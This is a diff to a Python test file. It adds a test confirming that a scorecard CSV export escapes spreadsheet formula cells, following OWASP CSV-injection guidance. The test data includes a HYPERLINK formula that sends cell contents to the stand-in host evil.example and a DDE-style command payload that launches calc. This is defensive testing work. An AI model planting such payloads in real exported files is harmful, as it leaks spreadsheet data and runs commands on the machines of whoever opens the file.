@@ -192,3 +192,20 @@ def test_pdf_overwrite_is_atomic(tmp_path, agenda_md, monkeypatch):
 
 def test_to_latin1():
     assert to_latin1("\u201cHi\u201d \u2013 caf\u00e9 \u0141\u00f3d\u017a \u65e5") == '"Hi" - caf\u00e9 L\u00f3dz ?'
+
+
+def test_csv_escapes_formula_cells_owasp(card):
+    """A rationale or manager note a spreadsheet would run (=HYPERLINK, @SUM, +, -, tab, CR) stays text."""
+    hostile = card.model_copy(deep=True)
+    hostile.criteria[0].rationale = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    hostile.criteria[1].rationale = "@SUM(1+1)*cmd|' /C calc'!A0"
+    notes = {"agenda_set": {"score": 1, "note": "+1 good"}, "open_questions": {"score": 2, "note": "-2+3"},
+             "next_step": {"score": 0, "note": "\tTAB"}}
+    rows = list(csv.DictReader(io.StringIO(scorecard_to_csv(hostile, notes))))
+    assert rows[0]["rationale"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+    assert rows[1]["rationale"].startswith("'@SUM")
+    assert [r["manager_note"] for r in rows] == ["'+1 good", "'-2+3", "'\tTAB"]
+    assert [r["manager_score"] for r in rows] == ["1", "2", "0"]  # plain numbers are not touched
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not value.startswith("-")
